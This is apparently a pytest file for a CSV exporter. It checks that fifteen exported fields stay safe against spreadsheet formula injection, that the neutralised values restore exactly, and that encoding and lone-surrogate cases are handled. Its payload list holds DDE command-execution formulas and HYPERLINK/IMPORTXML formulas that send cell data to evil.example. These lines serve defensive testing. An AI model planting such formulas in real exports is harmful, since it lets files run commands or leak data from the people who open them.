"""CSV that no spreadsheet computes (T14), and every field back as it was."""

from __future__ import annotations

import csv
import io
from datetime import UTC

import pytest

from console.schema_exports import ExportEncoding, ExportFormat, ExportIn, ExportJob, ExportType
from model.cause import Cause, Channel, Permanence
from model.detail import BroadcastSet, Planned, Report
from model.fact import DeliveryKey, Fact, FactType
from store.environment import Environment
from store.writer import write_now
from tests.store.world import T0_US
from yamabiko.exporter.column import Table, text
from yamabiko.exporter.csv_file import CsvFile, neutral, restored
from yamabiko.exporter.run import run_export

RISKY = tuple("=+-@\t\r")
#: What people try on spreadsheets, and what only looks like it.
PAYLOADS = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=SUM(A1:A9)", "=", "==1",
    "+1+1", "+cmd|' /C notepad'!'A1'", "+81-3-1234-5678", "+", "-1+1", "-2+3+cmd|' /C calc'!A0", "-", "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@", "@example", "\t=1+1", "\tx", "\r=1+1", "\r\n=1+1", "\r", "'=1+1", "''=1+1",
    "'", "''", "'quoted'", "'-1", "=1+1;=2+2", '"=1+1"', '=1+1","=2+2', "=1\n=2", "\n=1+1", ";=1+1", ",=1+1", " =1+1",
    "山田", "＝1+1", "=IMPORTXML(CONCAT(\"http://evil.example/\", A1), \"//a\")", "=DDE(\"cmd\",\"/C calc\",\"x\")",
]  # fmt: skip
#: Columns of ``deliveries`` that hold text from outside, and how each payload gets there.
FIELDS = (
    "last_name", "first_name", "company", "contact_ref", "mail_type", "api_user", "request_ip", "recipient_source",
    "schedule_task_id", "user_ref", "list_ref", "tags", "detail", "status_code", "broadcast_id",
)  # fmt: skip


def fill(env: Environment) -> None:
    """A delivery for each payload, with it in every field; each in a broadcast whose id it is."""
    for place, payload in enumerate(PAYLOADS):
        key = DeliveryKey(1, place + 1, 1)
        planned = Planned(
            "a@example.jp", b"row00001", payload, payload, payload, payload, (payload,), payload, payload, payload,
            payload, payload, payload, payload,
        )  # fmt: skip
        report = Report(
            Channel.IN_SESSION, b"o%d" % place, Cause.USER_UNKNOWN, Permanence.PERMANENT, status=payload,
            diagnostic=payload,
        )  # fmt: skip
        write_now(env, [
            Fact(FactType.BROADCAST_SET, DeliveryKey(1, place + 1, 0), T0_US + place, BroadcastSet(payload)),
            Fact(FactType.PLANNED, key, T0_US, planned), Fact(FactType.FAILED, key, T0_US + 1, report),
        ])  # fmt: skip


@pytest.mark.row("T14")
def test_fifteen_fields_with_forty_payloads_are_neutral_and_come_back(env: Environment) -> None:
    assert len(FIELDS) == 15 and len(set(PAYLOADS)) == 40
    fill(env)
    for kind in (ExportType.DELIVERIES, ExportType.EVENTS, ExportType.MAIL_STATUS, ExportType.REPORT):
        out = io.BytesIO()
        run_export(env, ExportJob(ExportIn(kind), 1, None, T0_US), out)
        rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
        assert all(not field.startswith(RISKY) for row in rows for field in row), kind
        if kind is ExportType.DELIVERIES:
            deliveries = rows
    from yamabiko.exporter.tables import TABLES

    names = TABLES[ExportType.DELIVERIES].names
    seen = {field: {restored(row[names.index(field)]) for row in deliveries[1:]} for field in FIELDS}
    checked = 0
    for field in FIELDS:
        assert seen[field] == set(PAYLOADS), field
        checked += len(seen[field])
    assert checked == 15 * 40


def test_the_check_would_find_a_formula() -> None:
    """Negative control: most payloads are formulas when nothing is done about them."""
    assert sum(payload.startswith(RISKY) for payload in PAYLOADS) > 25


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutral_is_undone_exactly(payload: str) -> None:
    assert not neutral(payload).startswith(RISKY)
    assert restored(neutral(payload)) == payload
    assert neutral(neutral(payload)).startswith("'") or neutral(payload) == payload


def written(rows: list[list[str]], encoding: ExportEncoding) -> tuple[bytes, int]:
    out = io.BytesIO()
    file = CsvFile(out, Table((text("x", "見出し", "X"),)), encoding=encoding, language="ja", zone=UTC)
    file.write(rows)
    file.close()
    return out.getvalue(), file.replaced


def test_encodings() -> None:
    assert written([["é"]], ExportEncoding.UTF_8_BOM) == ('\ufeff"見出し"\r\n"é"\r\n'.encode(), 0)
    assert written([["é"]], ExportEncoding.UTF_8)[0] == '"見出し"\r\n"é"\r\n'.encode()
    assert written([["é①㈱"]], ExportEncoding.CP932) == ('"見出し"\r\n"〓①㈱"\r\n'.encode("cp932"), 1)


def test_halves_of_pairs_do_not_stop_an_export() -> None:
    """A lone surrogate is no character: it came in from outside, and the row must still get out."""
    for encoding in ExportEncoding:
        content, replaced = written([["a\ud83db"]], encoding)
        assert replaced == 1
        assert "a〓b" in content.decode("cp932" if encoding is ExportEncoding.CP932 else "utf-8")


@pytest.mark.parametrize("form", list(ExportFormat))
def test_they_do_not_stop_other_formats_either(env: Environment, form: ExportFormat) -> None:
    key = DeliveryKey(1, 1, 1)
    write_now(env, [Fact(FactType.PLANNED, key, T0_US, Planned("a@example.jp", b"row00001", last_name="x\udc80y"))])
    out = io.BytesIO()
    done = run_export(env, ExportJob(ExportIn(ExportType.DELIVERIES, format=form), 1, None, T0_US), out)
    assert (done.rows, done.replaced) == (1, 1)
